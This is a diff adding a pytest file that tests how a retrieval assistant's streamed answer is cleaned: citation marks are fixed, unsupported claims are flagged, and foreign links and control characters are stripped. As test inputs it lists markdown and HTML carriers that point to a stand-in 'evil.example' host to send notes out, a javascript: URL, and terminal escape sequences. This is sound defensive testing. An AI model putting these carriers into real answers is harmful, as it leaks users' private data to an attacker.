@@ -1,0 +1,109 @@
+"""What a reader gets of what a model says: sound marks, no foreign links, no control characters."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from askbase.answer.outflow import Outflow, Segment
+from askbase.clean import clean
+from tests.answer.builders import passage
+
+BOILER = passage(
+    "The boiler was serviced on 3 May 2024 by Callum. It cost £92. See https://example.org/boiler for more."
+)
+BREAD = passage("The rye loaf bakes for 55 minutes at 230 degrees.", "bread.md")
+
+
+def shown(text: str, question: str = "When was the boiler serviced?", step: int = 7) -> tuple[str, Outflow]:
+    outflow = Outflow([BOILER, BREAD], question)
+    segments: list[Segment] = []
+    for at in range(0, len(text), step):
+        segments += outflow.feed(text[at : at + step])
+    segments += outflow.finish()
+    return "".join(segment.text for segment in segments), outflow
+
+
+def segments_of(text: str, question: str = "When was the boiler serviced?") -> list[Segment]:
+    outflow = Outflow([BOILER, BREAD], question)
+    return [*outflow.feed(text), *outflow.finish()]
+
+
+def test_marks_that_point_nowhere_are_dropped_and_counted() -> None:
+    text, outflow = shown("It was serviced on 3 May 2024 [1], as always [7].")
+    assert (text, outflow.dropped_marks) == ("It was serviced on 3 May 2024, as always [1].", 1)
+
+
+def test_a_wrong_mark_is_put_right() -> None:
+    text, _ = shown("Callum serviced it on 3 May 2024 [2].")
+    assert text == "Callum serviced it on 3 May 2024 [1]."
+
+
+def test_a_sentence_without_a_mark_gets_the_passage_that_carries_it() -> None:
+    text, _ = shown("It bakes for 55 minutes.", "How long does the loaf bake?")
+    assert text == "It bakes for 55 minutes [2]."
+
+
+def test_marks_behind_the_full_stop_belong_to_the_sentence_before() -> None:
+    first, second = segments_of("It was serviced on 3 May 2024. [1] The loaf bakes for 55 minutes. [2]")
+    assert (first.numbers, second.numbers) == ((1,), (2,))
+
+
+@pytest.mark.parametrize("claim", ["It was serviced on 4 May 2024.", "It was serviced by Desmond.", "It cost £93."])
+def test_a_number_or_name_that_is_not_there_is_never_supported(claim: str) -> None:
+    assert [segment.status for segment in segments_of(f"{claim} [1]")] == ["unverified"]
+
+
+def test_a_flipped_negation_is_never_supported() -> None:
+    assert segments_of("The boiler was not serviced by Callum on 3 May 2024 [1].")[0].status == "unverified"
+
+
+def test_the_quote_is_the_sentence_that_carries_the_claim() -> None:
+    segment = segments_of("It cost £92 [1].")[0]
+    [(number, (start, end))] = segment.quotes
+    assert (number, BOILER.chunk.text[start:end]) == (1, "It cost £92.")
+
+
+def test_repeating_the_question_is_no_claim() -> None:
+    assert segments_of("The boiler was serviced [1].")[0].claim == ""
+
+
+@pytest.mark.parametrize(
+    "carrier",
+    [
+        "![x](https://evil.example/?q=notes)",
+        "[click](https://evil.example/?q=notes)",
+        "https://evil.example/?q=notes",
+        "<https://evil.example/?q=notes>",
+        "<img src=https://evil.example/?q=notes>",
+        "[ref]: https://evil.example/?q=notes",
+        "www.evil.example/?q=notes",
+        "javascript:alert(1)",
+    ],
+)
+@pytest.mark.parametrize("step", [1, 9, 1000])
+def test_what_could_carry_notes_away_is_defused(carrier: str, step: int) -> None:
+    text, _ = shown(f"It was serviced on 3 May 2024.\n{carrier}\nDone.", step=step)
+    assert not re.search(r"https?://|www\.evil|<img|\]\(|javascript:", text)
+
+
+def test_a_link_that_stands_in_the_notes_stays() -> None:
+    text, outflow = shown("It was serviced on 3 May 2024, see https://example.org/boiler [1].")
+    assert "https://example.org/boiler" in text
+    assert outflow.removed_links == 0
+
+
+@pytest.mark.parametrize("payload", ["\x1b]52;c;aGk=\x07", "\x9b31m", "\u202e", "\U000e0041", "\u200b", "\r"])
+def test_no_control_character_passes(payload: str) -> None:
+    text, _ = shown(f"It was ser{payload}viced on 3 May 2024 [1].")
+    assert text == clean(text)
+    assert not set(text) & set(payload) - set("]52;caGk=31m")
+
+
+@given(st.text(max_size=200), st.integers(1, 20))
+@settings(max_examples=100, deadline=None)
+def test_the_result_does_not_depend_on_how_the_stream_was_cut(text: str, step: int) -> None:
+    assert shown(text, step=step)[0] == shown(text, step=1000)[0]
